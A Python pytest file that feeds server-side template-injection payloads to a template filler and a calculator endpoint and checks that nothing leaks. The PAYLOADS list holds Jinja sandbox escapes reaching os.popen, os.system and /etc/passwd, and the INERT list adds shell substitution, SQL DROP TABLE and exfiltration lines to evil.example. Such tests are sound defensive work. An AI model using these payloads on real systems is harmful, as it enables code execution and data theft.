"""Texts of users that ran as code elsewhere: here they are texts, or an error with a sentence."""

import asyncio
from pathlib import Path

import pytest

from backend.core.errors import BadRequest
from backend.sdk.templates import fill
from tests.contract.rest_server import CALCULATOR, RestServer

#: Escapes from sandboxes of templates and expressions, in the manner of those that were published.
PAYLOADS = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].system('touch MARK') }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "{{ request.application.__globals__ }}",
    "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}",
    "{{ ''['__cla' ~ 'ss__'] }}",
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ '%s'.__mod__.__self__ }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(self) }}",
    "{{ '{a.__class__}'.format_map({'a': 1}) }}",
    "{{ ''.format.__globals__ }}",
    "{{ [].sort.__self__.__class__ }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{% set x = ''.__class__ %}{{ x.mro() }}",
    "{% macro m() %}{{ caller.__globals__ }}{% endmacro %}{% call m() %}{% endcall %}",
    "{{ m.__globals__ if m else ''.__doc__.__class__ }}",
    "{{ (1).__reduce_ex__(2) }}",
    "{% extends '/etc/passwd' %}",
    "{% include '../../etc/passwd' %}",
    "{{ x.__init__.__wrapped__ }}",
    "{{ ''.join.__self__.__class__.__base__ }}",
    "{{ {}.__class__.fromkeys }}",
    "{{ 0.0.__class__.__call__ }}",
    "{{ [].append.__func__ }}",
    "{{ namespace.__init__ }}",
    "{{ dict.mro() }}",
    "{{ range.__class__ }}",
]
#: What other engines run; ours has no such marks, and hands it on.
INERT = [
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "={$evil",
    "__import__('os').system('id')",
    "constructor.constructor('return this')()",
    "'; DROP TABLE graphs; --",
    "$(touch MARK)",
    "`touch MARK`",
    "| touch MARK",
    "%0a touch MARK",
    "<script>fetch('//evil.example')</script>",
    "![x](https://evil.example/?q=secret)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_escape_from_a_template_is_an_error_and_shows_nothing(payload: str) -> None:
    try:
        filled = fill(payload, {"x": "value"})
    except BadRequest as exc:
        told = str(exc)
    else:
        told = filled

    for inside in ("<class", "builtin", "uid=", "root:", "<function", "0x7f"):
        assert inside not in told.replace(payload, ""), told


@pytest.mark.parametrize("payload", INERT)
def test_what_is_no_mark_of_ours_is_text(payload: str) -> None:
    assert fill(f"{payload} {{{{ a }}}}", {"a": payload}) == f"{payload} {payload}"


async def test_a_calculation_is_numbers_and_one_of_five_operations(
    server: RestServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    path = f"/api/blocks/{CALCULATOR}/execute"

    for payload in (*PAYLOADS, *INERT):
        for pin in ("operation", "a", "b"):
            body = {"operation": "Add", "a": 1, "b": 2, pin: payload}
            response = await server.ask("POST", path, body)
            if pin == "operation":
                assert response.status_code == 400, payload
            elif response.status_code == 200:  # a text may count as the number of its letters
                [result] = response.json()["result"]
                assert isinstance(result, int | float)

    assert not (await asyncio.to_thread(lambda: list(tmp_path.iterdir())))
